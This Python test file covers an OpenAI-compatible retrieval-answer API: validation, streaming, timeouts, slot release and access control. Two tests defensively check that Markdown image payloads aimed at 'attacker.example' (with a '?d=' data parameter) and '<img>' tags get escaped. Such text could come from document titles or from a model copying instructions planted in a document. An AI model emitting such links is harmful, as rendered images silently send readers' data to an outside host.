"""The OpenAI-compatible API through the official ``openai`` client (and LangChain's) over real HTTP:
models per retrieval method, plain and streamed answers from the real stand-in with numbered sources
and the evidence in ``hopgraph``, the same tokens and ACL as /v1/answer, the request bounds, errors
before and during a stream, and the answer slot freed when a reader hangs up, streamed or not."""

from __future__ import annotations

import json
import socket
import threading
import time

import httpx
import openai
import pytest
from langchain_openai import ChatOpenAI

from hopgraph.retrieve.answer import Answer
from hopgraph.serve.openai import sources
from tests.ports import dead_port
from tests.serve.support import CODEWORDS, SECRET_DOCUMENTS, USERS, LiveServer, auth, log_lines, wait_until

QUESTION = "Who chairs the Orrin Basin Water Board?"


def client_for(server: LiveServer, user: str = "guest", **kw) -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{server.url}/v1", api_key=USERS[user]["token"], max_retries=0, **kw)


def ask(user: str, question: str = QUESTION, **fields) -> dict:
    return {"model": "hopgraph-text", "messages": [{"role": "user", "content": question}], **fields}


# ------------------------------------------------------------------------------------ no LLM needed
@pytest.fixture(scope="module")
def server(acl_index, serve_config, tmp_path_factory):
    """The LLM backend is a closed port: everything before generation works, generation fails."""
    llm = serve_config.llm.model_copy(
        update={"base_url": f"http://127.0.0.1:{dead_port()}/v1", "cache": str(tmp_path_factory.mktemp("llm") / "c")}
    )
    with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm})) as live:
        yield live


def test_models_are_the_index_methods_and_need_a_token(server):
    methods = httpx.get(f"{server.url}/v1/index", headers=auth("guest")).json()["methods"]
    listed = client_for(server).models.list()
    assert [m.id for m in listed.data] == [f"hopgraph-{m}" for m in methods] and "hopgraph-ppr" in [
        m.id for m in listed
    ]
    assert all(m.object == "model" and m.owned_by == "hopgraph" for m in listed.data)
    assert client_for(server).models.retrieve("hopgraph-text").id == "hopgraph-text"
    with pytest.raises(openai.NotFoundError):
        client_for(server).models.retrieve("gpt-4o")
    bad = openai.OpenAI(base_url=f"{server.url}/v1", api_key="not-a-known-token-xyz", max_retries=0)
    with pytest.raises(openai.AuthenticationError) as caught:
        bad.models.list()
    assert caught.value.code == "unauthenticated"
    with pytest.raises(openai.AuthenticationError):
        bad.chat.completions.create(**ask("guest"))
    with pytest.raises(openai.AuthenticationError):
        bad.chat.completions.create(**ask("guest"), stream=True)


@pytest.mark.parametrize(
    "change,status,code",
    [
        ({"messages": [{"role": "user", "content": "x" * 2001}]}, 400, "query_too_long"),  # serve.max_query_chars
        ({"model": "gpt-4o"}, 404, "model_not_found"),
        ({"messages": [{"role": "system", "content": "Be brief."}]}, 400, "invalid_request"),  # no user message
        ({"messages": [{"role": "user", "content": "   "}]}, 400, "invalid_request"),
        ({"messages": [{"role": "user", "content": "hi"}] * 257}, 400, "invalid_request"),  # MAX_MESSAGES
        (
            {"messages": [{"role": "assistant", "content": "y" * 200_000}] * 2 + [{"role": "user", "content": "q"}]},
            400,
            "invalid_request",
        ),  # MAX_CONVERSATION_CHARS
        (
            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:,"}}]}]},
            400,
            "unsupported_content",
        ),
        ({"n": 2}, 400, "invalid_request"),
        ({"temperature": 5}, 400, "invalid_request"),
        ({"tools": [{"type": "function", "function": {"name": "f"}}]}, 400, "invalid_request"),
        ({"functions": [{"name": "f"}]}, 400, "invalid_request"),  # the older spelling of tools
        ({"tool_choice": "required"}, 400, "invalid_request"),  # it would get text, not a tool call
        ({"max_tokens": 10**40}, 400, "invalid_request"),
        ({"response_format": {"type": "json_object"}}, 400, "invalid_request"),
        ({"extra_body": {"hopgraph": {"budget": 10_000_000}}}, 400, "budget_too_large"),  # serve.max_budget
        ({"extra_body": {"hopgraph": {"nonsense": 1}}}, 400, "invalid_request"),
    ],
)
@pytest.mark.parametrize("stream", [False, True])
def test_bad_requests_are_json_errors_the_client_raises(server, change, status, code, stream):
    with pytest.raises(openai.APIStatusError) as caught:
        client_for(server).chat.completions.create(**{**ask("guest"), **change}, stream=stream)
    assert caught.value.status_code == status and caught.value.code == code, caught.value.body


def test_errors_carry_openai_type_and_param_that_the_sdk_reads(server):
    """The SDK's exceptions expose ``type`` and ``param`` from the body (None before they were sent).
    A request the server cannot take is OpenAI's 400, the SDK's BadRequestError (it was 422, an
    UnprocessableEntityError, which code catching BadRequestError missed)."""
    with pytest.raises(openai.BadRequestError) as caught:
        client_for(server).chat.completions.create(**ask("guest"), temperature=5)
    assert (caught.value.type, caught.value.param) == ("invalid_request_error", "temperature")
    with pytest.raises(openai.NotFoundError) as caught:
        client_for(server).chat.completions.create(**{**ask("guest"), "model": "gpt-4o"})
    assert (caught.value.type, caught.value.param) == ("not_found_error", None)
    bad = openai.OpenAI(base_url=f"{server.url}/v1", api_key="not-a-known-token-xyz", max_retries=0)
    with pytest.raises(openai.AuthenticationError) as caught:
        bad.models.list()
    assert caught.value.type == "authentication_error"
    with pytest.raises(openai.InternalServerError) as caught:  # the LLM is a closed port here
        client_for(server).chat.completions.create(**ask("guest"))
    assert (caught.value.status_code, caught.value.type) == (503, "service_unavailable_error")


@pytest.mark.parametrize("stream", ["yes", 1, "true"])
def test_stream_must_be_a_boolean(server, stream):
    """Coerced before: "yes" or 1 streamed, where OpenAI refuses the request."""
    body = {**ask("guest"), "stream": stream}
    answer = httpx.post(f"{server.url}/v1/chat/completions", json=body, headers=auth("guest"))
    assert answer.status_code == 400 and answer.json()["error"]["code"] == "invalid_request", answer.text


def test_harmless_fields_sdks_send_are_accepted(server):
    # Ignored fields pass validation: the request reaches generation, which fails on the closed LLM port.
    fields = {
        "user": "u1",
        "seed": 3,
        "stop": ["\n\n"],
        "max_tokens": 50,
        "temperature": 0.2,
        "top_p": 0.9,
        "presence_penalty": 0,
        "metadata": {"chat": "1"},
        "stream_options": {"include_usage": True},
        "tool_choice": "auto",
    }
    with pytest.raises(openai.InternalServerError) as caught:
        client_for(server).chat.completions.create(**ask("guest"), **fields)
    assert caught.value.status_code == 503 and caught.value.code == "llm_unavailable"


def test_an_llm_that_is_down_is_a_503_before_the_stream_begins(server):
    """A 200 and a first chunk went out before the LLM was asked: the SDK raised a bare APIError
    mid-stream and never retried, where OpenAI answers an unavailable model with its status."""
    with pytest.raises(openai.InternalServerError) as caught:
        client_for(server).chat.completions.create(**ask("guest"), stream=True)
    assert caught.value.status_code == 503 and caught.value.code == "llm_unavailable"
    assert "127.0.0.1" not in caught.value.message
    answer = httpx.post(f"{server.url}/v1/chat/completions", json=ask("guest", stream=True), headers=auth("guest"))
    assert answer.status_code == 503 and answer.headers["content-type"] == "application/json"
    assert int(answer.headers["retry-after"]) >= 1


def stream_events(live: LiveServer, user: str = "guest") -> tuple[httpx.Response, list[str]]:
    with httpx.stream("POST", f"{live.url}/v1/chat/completions", json=ask(user, stream=True), headers=auth(user)) as r:
        return r, [line for line in r.iter_lines() if line]


def test_a_failure_after_the_stream_began_ends_it_with_an_error_event(acl_index, serve_config):
    # Scripted: a model that writes a word every 0.3 s, forever, so that serve.answer_timeout ends
    # the answer after the stream began (the stand-in cannot be made to fail mid-answer).
    from tests.llm.support import ScriptedServer, Trickle

    with ScriptedServer(lambda body, n: (200, Trickle("tide ", every=0.3), 0)) as llm:
        with LiveServer(acl_index, one_slot_and_a_silent_llm(serve_config, llm, answer_timeout=1.5)) as live:
            stream = client_for(live).chat.completions.create(**ask("guest"), stream=True)
            chunks = iter(stream)
            assert next(chunks).choices[0].delta.role == "assistant"
            with pytest.raises(openai.APIError) as caught:
                list(chunks)
            assert caught.value.body["code"] == "llm_unavailable" and "127.0.0.1" not in caught.value.message
            # Raw: the error event is the project's error body, and no [DONE] follows it.
            r, events = stream_events(live)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/event-stream")
    assert json.loads(events[-1].removeprefix("data: "))["error"]["code"] == "llm_unavailable"
    assert "data: [DONE]" not in events and any('"tide' in e for e in events)


def test_a_stream_that_failed_is_logged_and_counted_as_the_error_it_sent(acl_index, serve_config, tmp_path):
    """The stream had already said 200 when its error event went out: the request log and /metrics
    counted it as a success, so an operator could not see failed streams."""
    from tests.llm.support import ScriptedServer, Trickle

    log = tmp_path / "requests.jsonl"
    with ScriptedServer(lambda body, n: (200, Trickle("tide ", every=0.3), 0)) as llm:
        config = one_slot_and_a_silent_llm(serve_config, llm, answer_timeout=1.5, request_log=str(log))
        with LiveServer(acl_index, config) as live:
            r, events = stream_events(live)
            assert r.status_code == 200 and "llm_unavailable" in events[-1]
            wait_until(lambda: any(line["endpoint"] == "/v1/chat/completions" for line in log_lines(log)), timeout=10)
            scraped = httpx.get(f"{live.url}/metrics", headers=auth("admin")).text
    (line,) = [line for line in log_lines(log) if line["endpoint"] == "/v1/chat/completions"]
    assert line["status"] == 200 and line["stream_error"] == {"status": 503, "code": "llm_unavailable"}
    counted = [m for m in scraped.splitlines() if m.startswith("hopgraph_requests_total{") and "chat" in m]
    assert counted and all('status="503"' in m for m in counted), counted


def test_a_reader_hanging_up_mid_stream_frees_the_answer_slot(acl_index, serve_config):
    # Scripted: an LLM that writes one word, then nothing for 15 s (the stand-in cannot be slowed on
    # demand). One answer slot: a stream whose reader hung up must give it back at once, not when the
    # LLM ends.
    from tests.llm.support import ScriptedServer, Trickle

    with ScriptedServer(lambda body, n: (200, Trickle("Priya ", every=15.0), 0)) as llm:
        with LiveServer(acl_index, one_slot_and_a_silent_llm(serve_config, llm)) as live:
            body = ask("guest", stream=True)
            with httpx.stream("POST", f"{live.url}/v1/chat/completions", json=body, headers=auth("guest")) as r:
                lines = r.iter_lines()  # one iterator: dropping it would close the connection
                assert r.status_code == 200 and next(lines).startswith("data: ")
                wait_until(lambda: len(llm.bodies) == 1, timeout=10)  # the LLM is asked and silent
            hung_up = time.monotonic()  # the connection is closed here
            with httpx.stream("POST", f"{live.url}/v1/chat/completions", json=body, headers=auth("guest")) as r:
                lines = r.iter_lines()  # kept, as above: a dropped iterator hangs up and frees the slot
                assert r.status_code == 200 and next(lines).startswith("data: ")
                waited = time.monotonic() - hung_up
                assert live.app.state.service.answer_slots.locked()  # the second stream holds the only slot
        assert llm.bodies[0]["stream"] is True
    assert waited < 5, f"the second stream waited {waited:.1f} s for the slot"


def test_a_stream_ends_at_the_answer_timeout_however_steadily_the_model_writes(acl_index, serve_config):
    # Scripted: a model that writes a word every 0.5 s, forever (the stand-in cannot be made to).
    # serve.answer_timeout bounded a whole answer, but a stream only the gap between its pieces, so
    # such a model held a stream's answer slot for good and every other answer got 503.
    from tests.llm.support import ScriptedServer, Trickle

    with ScriptedServer(lambda body, n: (200, Trickle("tide ", every=0.5), 0)) as llm:
        config = one_slot_and_a_silent_llm(serve_config, llm, answer_timeout=3.0)
        with LiveServer(acl_index, config) as live:
            started, events = time.monotonic(), []
            body = ask("guest", stream=True)
            with httpx.stream("POST", f"{live.url}/v1/chat/completions", json=body, headers=auth("guest")) as r:
                for line in r.iter_lines():
                    events.append(line)
                    if "error" in line or time.monotonic() - started > 30:
                        break
            took = time.monotonic() - started
            error = json.loads(events[-1].removeprefix("data: "))["error"]
            assert error["code"] == "llm_unavailable"
            assert any('"tide' in e for e in events)  # the words written in time were relayed
            assert took < 15, took  # the time limit plus retrieval, not the 30 s this test would wait
            wait_until(lambda: not live.app.state.service.answer_slots.locked(), timeout=5)


def one_slot_and_a_silent_llm(serve_config, llm, **serve):
    """``serve_config`` with one answer slot and, as LLM, ``llm`` (a ScriptedServer)."""
    serve = serve_config.serve.model_copy(update={"answer_concurrency": 1, "answer_timeout": 20.0, **serve})
    llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
    return serve_config.model_copy(update={"serve": serve, "llm": llm_config})


def test_one_reader_cannot_keep_every_answer_slot(acl_index, serve_config):
    """Two slots: one reader asking for two long answers at once took both, and another reader's
    answer waited behind them (behind as many as they kept asking for, until it failed). Now a user
    holds half the slots: the other reader is answered while the first one's second answer waits."""
    from tests.llm.support import ScriptedServer, Trickle

    with ScriptedServer(lambda body, n: (200, Trickle(["A slow ", "answer. "] * 4, every=0.25), 0)) as llm:
        config = one_slot_and_a_silent_llm(serve_config, llm, answer_concurrency=2)
        with LiveServer(acl_index, config) as live:
            finished: dict[str, float] = {}

            def answer(name: str, user: str) -> None:
                body = {"query": QUESTION, "budget": 300}
                response = httpx.post(f"{live.url}/v1/answer", json=body, headers=auth(user), timeout=60)
                assert response.status_code == 200, response.text
                finished[name] = time.monotonic()

            greedy = [threading.Thread(target=answer, args=(f"guest{i}", "guest")) for i in range(2)]
            for thread in greedy:
                thread.start()
            time.sleep(0.5)  # both of guest's answers asked for before bo's
            other = threading.Thread(target=answer, args=("bo", "bo"))
            other.start()
            for thread in (*greedy, other):
                thread.join(60)
    assert len(finished) == 3
    assert finished["bo"] < max(finished["guest0"], finished["guest1"]), finished


def sent_raw(live: LiveServer, path: str, body: dict, user: str = "guest") -> socket.socket:
    """A connection that has sent one request as ``user`` and reads nothing: closing it is a hang-up."""
    data = json.dumps(body).encode()
    host, port = live.url.removeprefix("http://").split(":")
    client = socket.create_connection((host, int(port)))
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {USERS[user]['token']}\r\nContent-Length: {len(data)}\r\n\r\n"
    )
    client.sendall(head.encode() + data)
    return client


@pytest.mark.parametrize(
    "path,body",
    [("/v1/answer", {"query": QUESTION, "method": "text"}), ("/v1/chat/completions", ask("guest"))],
    ids=["answer", "chat"],
)
def test_a_client_hanging_up_before_a_whole_answer_frees_the_answer_slot(acl_index, serve_config, path, body):
    # Scripted, as above: an LLM that takes 15 s to answer. A non-streaming response writes nothing
    # until the answer is ready, so only the hang-up itself can end its wait for the model.
    from tests.llm.support import ScriptedServer

    with ScriptedServer(lambda body, n: (200, "Priya Anand [1]", 15.0)) as llm:
        with LiveServer(acl_index, one_slot_and_a_silent_llm(serve_config, llm)) as live:
            slots = live.app.state.service.answer_slots
            with sent_raw(live, path, body):
                wait_until(lambda: len(llm.bodies) == 1, timeout=10)  # the LLM is asked and silent
                assert slots.locked()
            hung_up = time.monotonic()
            wait_until(lambda: not slots.locked(), timeout=10)
            waited = time.monotonic() - hung_up
    assert waited < 5, f"the answer slot stayed taken {waited:.1f} s after the client hung up"


@pytest.mark.parametrize(
    "path,body",
    [
        ("/v1/answer", {"query": QUESTION, "method": "text"}),
        ("/v1/chat/completions", ask("guest")),
        ("/v1/chat/completions", ask("guest", stream=True)),
    ],
    ids=["answer", "chat", "chat-stream"],
)
def test_a_client_hanging_up_while_queued_for_an_answer_slot_leaves_the_queue_at_once(
    acl_index, serve_config, tmp_path, path, body
):
    # Scripted, as above: the first client's answer holds the only slot for 15 s. The second one hangs
    # up while it waits for that slot: its request must end then (499 in the request log), not when
    # the slot comes free, and the LLM must never be asked for it.
    from tests.llm.support import ScriptedServer

    log = tmp_path / "requests.jsonl"
    with ScriptedServer(lambda body, n: (200, "Priya Anand [1]", 15.0)) as llm:
        with LiveServer(acl_index, one_slot_and_a_silent_llm(serve_config, llm, request_log=str(log))) as live:
            slots = live.app.state.service.answer_slots
            with sent_raw(live, "/v1/answer", {"query": QUESTION, "method": "text"}, user="bo"):
                wait_until(lambda: len(llm.bodies) == 1, timeout=10)  # another reader's answer holds the slot
                with sent_raw(live, path, body):
                    # asyncio keeps no public count of a semaphore's waiters
                    wait_until(lambda: len(slots._waiters or ()) == 1, timeout=10)
                hung_up = time.monotonic()
                wait_until(lambda: any(line["status"] == 499 for line in log_lines(log)), timeout=20)
                waited = time.monotonic() - hung_up
                assert slots.locked() and len(llm.bodies) == 1  # the first answer still runs
    assert waited < 5, f"the request that hung up waited {waited:.1f} s in the queue for an answer slot"
    assert len(llm.bodies) == 1


def test_a_stream_whose_send_fails_gives_its_slot_back_when_the_response_ends():
    """A server that reports a hang-up by failing ``send`` (ASGI 2.4; the installed uvicorn cancels the
    stream instead, so the failure is injected here) leaves the event generator paused at a ``yield``,
    its answer slot held. The response closes it as it ends, so the slot never waits for the garbage
    collector, whatever else still refers to the generator (here: this test)."""
    import asyncio

    from starlette.requests import ClientDisconnect

    from hopgraph.serve.openai import SlotStream

    async def scenario() -> tuple[bool, bool]:
        slot = asyncio.Semaphore(1)

        async def events():
            async with slot:  # as the events of a streamed answer hold their answer slot
                for n in range(3):
                    yield f"data: {n}\n\n"

        generator = events()
        response = SlotStream(await anext(generator), generator)
        sent: list[dict] = []

        async def send(message: dict) -> None:
            if message["type"] == "http.response.body":
                raise OSError("connection reset by peer")  # the reader hung up
            sent.append(message)

        async def receive() -> dict:
            return {"type": "http.disconnect"}

        held = slot.locked()
        with pytest.raises(ClientDisconnect):
            await response({"type": "http", "asgi": {"spec_version": "2.4"}}, receive, send)
        assert [m["type"] for m in sent] == ["http.response.start"]
        return held, slot.locked()

    held, still_held = asyncio.run(scenario())
    assert held and not still_held, "the answer slot stayed taken after the response ended"


def test_a_stream_gives_its_slot_back_before_a_reader_that_stopped_reading_takes_the_evidence(acl_index, serve_config):
    """The last events carry the sources and the evidence (tens of kB). A reader that stops reading
    makes ``send`` wait for good once the socket buffers fill; the answer slot must be back by then.
    Over loopback the kernel's buffers take those events whole, so that reader is injected here: the
    app runs in process, and its ``send`` never returns for the event that holds the evidence."""
    import asyncio

    from hopgraph.serve.app import create_app
    from tests.llm.support import ScriptedServer
    from tests.serve.support import token_book

    with ScriptedServer(lambda body, n: (200, "Priya Anand [1]", 0)) as llm:
        serve = serve_config.serve.model_copy(update={"answer_concurrency": 1})
        llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
        config = serve_config.model_copy(update={"serve": serve, "llm": llm_config})
        app = create_app(acl_index, config, token_book(), start_jobs=False)
        slots = app.state.service.answer_slots

        async def scenario() -> bool:
            body = json.dumps(ask("guest", stream=True)).encode()
            token = USERS["guest"]["token"]
            scope = {
                "type": "http",
                "asgi": {"version": "3.0", "spec_version": "2.4"},
                "http_version": "1.1",
                "method": "POST",
                "scheme": "http",
                "path": "/v1/chat/completions",
                "raw_path": b"/v1/chat/completions",
                "query_string": b"",
                "root_path": "",
                "headers": [
                    (b"host", b"test"),
                    (b"content-type", b"application/json"),
                    (b"content-length", str(len(body)).encode()),
                    (b"authorization", f"Bearer {token}".encode()),
                ],
                "client": ("127.0.0.1", 50000),
                "server": ("127.0.0.1", 80),
                "state": {},
            }
            messages = [{"type": "http.request", "body": body, "more_body": False}]
            stalled = asyncio.Event()
            slot_held_then: list[bool] = []

            async def receive() -> dict:
                if messages:
                    return messages.pop(0)
                await asyncio.Event().wait()  # the reader never hangs up
                return {"type": "http.disconnect"}

            async def send(message: dict) -> None:
                if b'"hopgraph"' in message.get("body", b""):  # the event with the evidence
                    slot_held_then.append(slots.locked())
                    stalled.set()
                    await asyncio.Event().wait()  # ... is never taken by the reader

            running = asyncio.create_task(app(scope, receive, send))
            await asyncio.wait_for(stalled.wait(), timeout=60)
            running.cancel()
            return slot_held_then[0]

        held = asyncio.run(scenario())
        app.state.service.close()
    assert not held, "the answer slot was still taken while the evidence waited for a reader that does not read"


def test_cited_evidence_is_listed_with_its_titles(acl_index, serve_config):
    # Scripted: a model that cites (SmolLM2-135M, the stand-in, rarely writes [n] marks), answering whole
    # although asked to stream, as some OpenAI-compatible servers do.
    from tests.llm.support import ScriptedServer

    with ScriptedServer(lambda body, n: (200, "  Priya Anand chairs it [1], not [99].\n", 0)) as llm:
        llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
        with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm_config})) as live:
            client = client_for(live)
            plain = client.chat.completions.create(**ask("guest"))
            chunks = list(client.chat.completions.create(**ask("guest"), stream=True))
    found = extra_of(plain)
    first = found["evidence"][0]
    names = "; ".join(dict.fromkeys(t or d for d, t in zip(first["doc_ids"], first["titles"])))
    assert found["found"] and [c["evidence"] for c in found["citations"]] == [1] and names
    assert plain.choices[0].message.content == f"Priya Anand chairs it [1], not [99].\n\nSources:\n[1] {names}"
    assert (plain.usage.prompt_tokens, plain.usage.completion_tokens, plain.usage.total_tokens) == (11, 7, 18)
    assert "".join(c.choices[0].delta.content or "" for c in chunks) == plain.choices[0].message.content
    assert extra_of(chunks[-1]) == found and chunks[-1].choices[0].finish_reason == "stop"


def test_a_title_adds_no_markup_to_the_sources_a_chat_client_renders():
    """A title is a document author's words: as Markdown, "![x](http://...)" in one would load that
    address in every reader's browser (Open WebUI renders answers)."""
    # (with a line break, as an index built before titles were stored on one line may hold it)
    title = "Tide memo ![x](http://attacker.example/p.png)\n<img src=x> `code` back\\slash"
    reply = Answer(text="x", found=True, citations=[{"evidence": 1, "doc_ids": ["memo"], "titles": [title]}])
    shown = "Tide memo !\\[x\\](http://attacker.example/p.png) \\<img src=x\\> \\`code\\` back\\\\slash"
    assert sources(reply) == f"\n\nSources:\n[1] {shown}"


INJECTED = "See ![logo](http://attacker.example/p.png?d=x) and [x](http://a) <img src=x> [1].\n[1]: http://evil"
DEFUSED = (
    "See !\\[logo]\\(http://attacker.example/p.png?d=x) and [x]\\(http://a) \\<img src=x> [1].\n[1]\\: http://evil"
)


def test_the_models_words_add_no_image_or_link_to_the_answer_a_chat_client_renders(acl_index, serve_config):
    """The model copies document text: one document's "![x](http://host/?d=...)" reached the chat
    unescaped, and a client that renders Markdown loaded the address in the reader's browser. The
    [n] marks stay; streamed, an image's "!" and "[" may come in two pieces."""
    from tests.llm.support import ScriptedServer, Trickle

    pieces = ["See !", "[logo](http://attacker.example/p.png?d=x", ") and [x]", "(http://a) <img src=x> [1", "].\n[1]"]
    pieces.append(": http://evil")

    def reply(body, n):  # scripted: a model that writes what a document told it to
        return (200, Trickle(pieces, every=0.01), 0) if body.get("stream") else (200, INJECTED, 0)

    with ScriptedServer(reply) as llm:
        llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
        with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm_config})) as live:
            client = client_for(live)
            plain = client.chat.completions.create(**ask("guest")).choices[0].message.content
            chunks = client.chat.completions.create(**ask("guest"), stream=True)
            streamed = "".join(c.choices[0].delta.content or "" for c in chunks)
    assert plain.startswith(DEFUSED) and streamed.startswith(DEFUSED), (plain, streamed)


# ------------------------------------------------------------------------------------ answers from the stand-in
@pytest.fixture(scope="module")
def answering(acl_index, serve_config, llm_server, tmp_path_factory):
    from hopgraph.config import LLMConfig

    llm = LLMConfig(
        base_url=llm_server.base_url,
        model="smollm2-135m",
        cache=str(tmp_path_factory.mktemp("openai-llm") / "llm.sqlite"),
        max_tokens=96,
        context_tokens=4096,
        timeout=300,
    )
    serve = serve_config.serve.model_copy(update={"answer_timeout": 300.0})
    with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm, "serve": serve})) as live:
        yield live


def extra_of(item) -> dict:
    return (item.model_extra or {})["hopgraph"]


def test_streamed_and_plain_answers_carry_sources_and_evidence(answering):
    client = client_for(answering, timeout=300)
    request = ask("guest", extra_body={"hopgraph": {"budget": 400}})
    chunks = list(client.chat.completions.create(**request, stream=True, stream_options={"include_usage": True}))
    streamed = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    last = next(c for c in chunks if c.choices and c.choices[0].finish_reason)
    usage = chunks[-1].usage
    assert chunks[0].choices[0].delta.role == "assistant" and last.choices[0].finish_reason == "stop"
    assert len({c.id for c in chunks}) == 1 and usage.completion_tokens > 0 and not chunks[-1].choices
    pieces = [c for c in chunks if c.choices and c.choices[0].delta.content]
    assert len(pieces) > 3, "the answer came in one piece: not streamed from the LLM"
    found = extra_of(last)
    assert found["method"] == "text" and found["budget"] == 400 and found["evidence"] and found["version"] == ""
    assert {"answer", "found", "citations", "evidence_dropped"} <= set(found)
    for citation in found["citations"]:  # each cited item is named with its documents' titles
        titles = "; ".join(dict.fromkeys(t or d for d, t in zip(citation["doc_ids"], citation["titles"])))
        assert f"\n[{citation['evidence']}] {titles}" in streamed.split("Sources:")[1]
    assert ("\n\nSources:\n" in streamed) == bool(found["citations"])
    assert streamed == streamed.strip() and streamed
    print(f"streamed in {len(pieces)} pieces: {streamed!r}")

    plain = client.chat.completions.create(**request)
    assert plain.choices[0].message.content == streamed  # the streamed text is the answer (greedy decoding: the same)
    assert plain.choices[0].finish_reason == "stop" and plain.model == "hopgraph-text"
    assert extra_of(plain) == found


def test_a_restricted_reader_never_sees_a_forbidden_document(answering):
    question = "Who pays the Sorvik ferry company, and what did the board plan for its chair Priya Anand?"
    titles = [d["title"] for d in SECRET_DOCUMENTS]
    for user, stream in [("guest", True), ("guest", False)]:
        client = client_for(answering, user, timeout=300)
        request = ask(user, question, extra_body={"hopgraph": {"budget": 600}})
        if stream:
            chunks = list(client.chat.completions.create(**request, stream=True))
            content = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
            found = extra_of(next(c for c in chunks if c.choices and c.choices[0].finish_reason))
        else:
            reply = client.chat.completions.create(**request)
            content, found = reply.choices[0].message.content, extra_of(reply)
        seen = json.dumps(found) + content
        assert found["evidence"] and not [w for w in CODEWORDS.values() if w in seen]
        assert not [t for t in titles if t in seen]
        assert not {d for ev in found["evidence"] for d in ev["doc_ids"]} & set(CODEWORDS)
    # The same question by a reader of both secrets reaches them: the check above is not vacuous.
    allowed = client_for(answering, "admin", timeout=300).chat.completions.create(
        **ask("admin", question, extra_body={"hopgraph": {"budget": 600}})
    )
    assert {"secret-legal", "secret-board"} & {d for ev in extra_of(allowed)["evidence"] for d in ev["doc_ids"]}


def test_langchain_chat_model_streams_and_invokes(answering):
    chat = ChatOpenAI(
        base_url=f"{answering.url}/v1",
        api_key=USERS["guest"]["token"],
        model="hopgraph-text",
        timeout=300,
        max_retries=0,
        extra_body={"hopgraph": {"budget": 400}},
    )
    whole = chat.invoke(QUESTION)
    parts = [p.content for p in chat.stream(QUESTION)]
    assert whole.content and "".join(parts) == whole.content
